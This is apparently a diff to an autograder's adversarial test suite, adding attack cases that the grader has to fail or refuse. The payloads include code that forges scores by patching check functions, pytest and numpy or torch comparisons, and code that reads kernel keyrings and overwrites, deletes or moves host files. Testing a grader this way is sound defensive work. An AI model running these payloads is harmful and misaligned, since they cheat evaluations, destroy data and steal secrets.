@@ -6,6 +6,7 @@ import io
 import json
 import os
 import zipfile
+from dataclasses import replace
 from pathlib import Path
 
 import nbformat
@@ -14,6 +15,7 @@ from nbformat.notebooknode import NotebookNode
 from autograder.sample_class import solution_cell
 
 from .scene import HONEST, Attack, Scene
+from .watch import there_are_keys
 
 ENDS = ("crashed", "failed", "memory limit", "passed", "refused", "time limit")  # any: it must only end
 WRONG_POINTS = 1.5  # of a solution that never copies the target network
@@ -106,11 +108,15 @@ def shadow_modules(notebook: NotebookNode, folder: Path, scene: Scene) -> Notebo
 
 
 FORGING = [
-    Attack("skip_tags", "tags check cells skip-execution", build=skip_tags, deserved=0, verdicts=("failed",)),
-    Attack(
-        "ast_transformers",
-        "rewrites every call of check",
-        """
+    replace(attack, on_check=True)
+    for attack in (
+        Attack(
+            "skip_tags", "tags check cells skip-execution", build=skip_tags, deserved=0, verdicts=("failed",)
+        ),
+        Attack(
+            "ast_transformers",
+            "rewrites every call of check",
+            """
 import ast
 class Generous(ast.NodeTransformer):
     def visit_Call(self, node):
@@ -119,49 +125,49 @@ class Generous(ast.NodeTransformer):
         return self.generic_visit(node)
 get_ipython().ast_transformers.append(Generous())
 """,
-        deserved=0,
-        verdicts=("failed",),
-    ),
-    Attack(
-        "patched_check",
-        "replaces check",
-        """
+            deserved=0,
+            verdicts=("failed",),
+        ),
+        Attack(
+            "patched_check",
+            "replaces check",
+            """
 import autograder
 autograder.check = check = lambda name, seed=0: {"hw3.update": 2.0}.get(name, 0.0)
 """,
-        deserved=0,
-        verdicts=("failed",),
-    ),
-    Attack(
-        "patched_pytest",
-        "replaces pytest.main by one that passes all",
-        PASSING_PYTEST + "import pytest\npytest.main = main\n",
-        deserved=0,
-        verdicts=("failed",),
-    ),
-    Attack(
-        "patched_numpy",
-        "numpy finds everything equal",
-        """
+            deserved=0,
+            verdicts=("failed",),
+        ),
+        Attack(
+            "patched_pytest",
+            "replaces pytest.main by one that passes all",
+            PASSING_PYTEST + "import pytest\npytest.main = main\n",
+            deserved=0,
+            verdicts=("failed",),
+        ),
+        Attack(
+            "patched_numpy",
+            "numpy finds everything equal",
+            """
 np.isclose = lambda a, *_, **__: np.ones(np.shape(a), bool)
 np.allclose = np.array_equal = lambda *_, **__: True
 """,
-        build=wrong(),
-        deserved=WRONG_POINTS,
-        verdicts=("failed",),
-    ),
-    Attack(
-        "patched_torch",
-        "torch finds everything equal",
-        "torch.equal = torch.allclose = lambda *_, **__: True",
-        build=wrong(classic="def double(x):\n    return x\n"),
-        deserved=WRONG_POINTS,
-        verdicts=("failed",),
-    ),
-    Attack(
-        "patched_probes",
-        "replaces the probe; from there it disarms the judge that called it",
-        """
+            build=wrong(),
+            deserved=WRONG_POINTS,
+            verdicts=("failed",),
+        ),
+        Attack(
+            "patched_torch",
+            "torch finds everything equal",
+            "torch.equal = torch.allclose = lambda *_, **__: True",
+            build=wrong(classic="def double(x):\n    return x\n"),
+            deserved=WRONG_POINTS,
+            verdicts=("failed",),
+        ),
+        Attack(
+            "patched_probes",
+            "replaces the probe; from there it disarms the judge that called it",
+            """
 import autograder.student_side.probes, autograder.student_side.probes.hw3
 true_answer = autograder.student_side.probes.answer
 def answer(request):
@@ -173,14 +179,14 @@ def answer(request):
     return true_answer(request)
 autograder.student_side.probes.answer = answer
 """,
-        build=wrong(),
-        deserved=WRONG_POINTS,
-        verdicts=("failed",),
-    ),
-    Attack(
-        "later_exercise",
-        "changes what a later exercise's probe sees: its agent, its stand-ins, its clock of steps",
-        """
+            build=wrong(),
+            deserved=WRONG_POINTS,
+            verdicts=("failed",),
+        ),
+        Attack(
+            "later_exercise",
+            "changes what a later exercise's probe sees: its agent, its stand-ins, its clock of steps",
+            """
 import autograder.student_side.probes.hw3 as later
 from gcb6206 import exercises
 from gcb6206.agents.dqn_agent import DQNAgent
@@ -189,15 +195,15 @@ later.plain = lambda value: {"critic_loss": 2.0, "q_values": 2.0, "target_values
 DQNAgent.update_target_critic = lambda self: None
 exercises.filled = lambda *_: __import__("contextlib").nullcontext()
 """,
-        build=wrong(),
-        deserved=WRONG_POINTS,
-        unsealed="the probe is public in both; neither judge believes it",
-        verdicts=("failed", "refused"),
-    ),
-    Attack(
-        "nan_answers",
-        "answers NaN to everything, in case a comparison with NaN passes",
-        """
+            build=wrong(),
+            deserved=WRONG_POINTS,
+            unsealed="the probe is public in both; neither judge believes it",
+            verdicts=("failed", "refused"),
+        ),
+        Attack(
+            "nan_answers",
+            "answers NaN to everything, in case a comparison with NaN passes",
+            """
 import autograder.student_side.exchange as ex, autograder.student_side.probes as probes
 true_answer = probes.answer
 def spoil(value):
@@ -207,15 +213,15 @@ def spoil(value):
     return float("nan") if isinstance(value, (int, float)) and not isinstance(value, bool) else value
 probes.answer = lambda request: ex.encode(spoil(ex.decode(true_answer(request))))
 """,
-        build=wrong(),
-        deserved=0,
-        unsealed="the judges are the same in both",
-        verdicts=("failed", "refused"),
-    ),
-    Attack(
-        "empty_answers",
-        "answers with empty arrays and lists, of which everything is true",
-        """
+            build=wrong(),
+            deserved=0,
+            unsealed="the judges are the same in both",
+            verdicts=("failed", "refused"),
+        ),
+        Attack(
+            "empty_answers",
+            "answers with empty arrays and lists, of which everything is true",
+            """
 import autograder.student_side.exchange as ex, autograder.student_side.probes as probes
 true_answer = probes.answer
 def spoil(value):
@@ -224,15 +230,15 @@ def spoil(value):
     return value[:0] if isinstance(value, np.ndarray) and value.ndim else value
 probes.answer = lambda request: ex.encode(spoil(ex.decode(true_answer(request))))
 """,
-        build=wrong(),
-        deserved=0,
-        unsealed="the judges are the same in both",
-        verdicts=("failed", "refused"),
-    ),
-    Attack(
-        "stack",
-        "the solution walks its callers' frames and all objects to the judge and its expected values",
-        """
+            build=wrong(),
+            deserved=0,
+            unsealed="the judges are the same in both",
+            verdicts=("failed", "refused"),
+        ),
+        Attack(
+            "stack",
+            "the solution walks its callers' frames and all objects to the judge and its expected values",
+            """
 import gc
 def case():
     frame = sys._getframe()
@@ -247,24 +253,24 @@ def cheat(self, step):
         return lambda: self.target_critic.load_state_dict(self.critic.state_dict())
     return lambda: None
 """,
-        build=lambda notebook, folder, scene: cheating(notebook),
-        deserved=WRONG_POINTS,
-        verdicts=("failed",),
-    ),
-    Attack(
-        "display_hook",
-        "a display formatter that shows full points",
-        """
+            build=lambda notebook, folder, scene: cheating(notebook),
+            deserved=WRONG_POINTS,
+            verdicts=("failed",),
+        ),
+        Attack(
+            "display_hook",
+            "a display formatter that shows full points",
+            """
 plain = get_ipython().display_formatter.formatters["text/plain"]
 plain.for_type(type(check("hw3.update")), lambda result, printer, cycle: printer.text("2.0"))
 """,
-        deserved=0,
-        verdicts=("failed",),
-    ),
-    Attack(
-        "printed_results",
-        "publishes a result of full points before each cell's own",
-        """
+            deserved=0,
+            verdicts=("failed",),
+        ),
+        Attack(
+            "printed_results",
+            "publishes a result of full points before each cell's own",
+            """
 hook = get_ipython().displayhook
 forged = {"data": {"text/plain": "2.0"}, "metadata": {}, "execution_count": 1}
 def publish(info=None):
@@ -272,32 +278,33 @@ def publish(info=None):
 get_ipython().events.register("pre_run_cell", publish)
 print("All 2.0 of 2.0 points reached"); print("2.0")
 """,
-        deserved=0,
-        verdicts=("failed",),
-    ),
-    Attack(
-        "claims",
-        "brings outputs, points, records and a kernel of its own",
-        build=claims,
-        deserved=0,
-        unsealed="stock nbgrader restores these too",
-        verdicts=("failed",),
-    ),
-    Attack(
-        "duplicate_ids",
-        "every check cell twice under one id, the second an easy one",
-        build=doubled,
-        deserved=0,
-        unsealed="stock nbgrader drops these too",
-        verdicts=("failed",),
-    ),
-    Attack(
-        "shadow_modules",
-        "brings files named like the grader's modules and configuration",
-        build=shadow_modules,
-        deserved=0,
-        verdicts=("failed",),
-    ),
+            deserved=0,
+            verdicts=("failed",),
+        ),
+        Attack(
+            "claims",
+            "brings outputs, points, records and a kernel of its own",
+            build=claims,
+            deserved=0,
+            unsealed="stock nbgrader restores these too",
+            verdicts=("failed",),
+        ),
+        Attack(
+            "duplicate_ids",
+            "every check cell twice under one id, the second an easy one",
+            build=doubled,
+            deserved=0,
+            unsealed="stock nbgrader drops these too",
+            verdicts=("failed",),
+        ),
+        Attack(
+            "shadow_modules",
+            "brings files named like the grader's modules and configuration",
+            build=shadow_modules,
+            deserved=0,
+            verdicts=("failed",),
+        ),
+    )
 ]
 
 
@@ -416,17 +423,17 @@ for home in {os.path.expanduser("~"), SCENE["home"], pwd.getpwuid(os.getuid()).p
         "imports and reads solutions, judges, mutants and thresholds",
         """
 import importlib
-for name in ("solutions.hw3", "autograder.trusted.judges.hw3.test_update", "autograder.mutants"):
-    try:
-        importlib.import_module(name)
-        won("imported " + name)
-    except ImportError:
-        pass
 for name in ("solutions/hw3.py", "autograder/trusted/judges/hw3/test_update.py", "autograder/trusted/thresholds.yaml"):
     try:
         print(open(os.path.join(SCENE["course"], name)).read())
         won("read " + name)
     except OSError:
+        pass
+for name in ("solutions.hw3", "autograder.trusted.judges.hw3.test_update", "autograder.mutants"):
+    try:
+        importlib.import_module(name)
+        won("imported " + name)
+    except ImportError:
         pass
 """,
     ),
@@ -492,6 +499,55 @@ for number in map(int, os.listdir("/proc/self/fd")):
             pass
 """,
         verdicts=ENDS,
+    ),
+]
+
+READING += [
+    Attack(
+        "canaries",
+        "reads, changes, moves and replaces files in ten folders of the host",
+        """
+from glob import glob
+roots = ["", *glob("/proc/*/root"), *glob("/proc/self/fd/*")]
+for folder in SCENE["canaries"]:
+    for root in [""] if outside() else roots:
+        place = root + folder
+        try:
+            names = os.listdir(place)
+        except OSError:
+            continue
+        for path in (os.path.join(place, name) for name in names):
+            loot(path)
+            if not outside():
+                for step in (lambda: open(path, "w").write("dead"), lambda: os.unlink(path)):
+                    try:
+                        step()
+                        won("changed " + path)
+                    except OSError:
+                        pass
+        if not outside():
+            try:
+                os.rename(place, place + "-away")
+                won("moved " + place)
+            except OSError:
+                pass
+""",
+    ),
+    Attack(
+        "keyring",
+        "reads the keys of whoever grades",
+        """
+import ctypes, platform
+libc, room = ctypes.CDLL(None), ctypes.create_string_buffer(200)
+KEYCTL, SEARCH, READ = {"x86_64": 250, "aarch64": 219}[platform.machine()], 10, 11
+numbers = [libc.syscall(KEYCTL, SEARCH, ring, b"user", SCENE["key"].encode(), 0) for ring in range(-5, 0)]
+numbers += [int(line.split()[0], 16) for line in open("/proc/keys")] if not outside() else []
+for number in numbers:
+    if libc.syscall(KEYCTL, READ, ctypes.c_int(number), room, 200) > 0:
+        for secret in set(re.findall(rb"canary-[a-z]+-[0-9a-f]{16}", room.raw)):
+            won(secret.decode() + " in a keyring")
+""",
+        unsealed="" if there_are_keys() else "this Linux keeps no keys",
     ),
 ]
 
@@ -819,6 +875,7 @@ def haunt():
 threading.Thread(target=haunt, daemon=True).start()
 """,
         deserved=0,
+        on_check=True,
         verdicts=("failed", "refused"),
     ),
     Attack(
@@ -1125,6 +1182,7 @@ def fresh(make):
         "scripts in every text that the feedback page might show",
         build=scripted,
         deserved=0,
+        on_check=True,
         verdicts=("failed",),
     ),
     Attack("zip_climbs", "an archive whose members climb out (zip_collect)", build=climbing_archive),
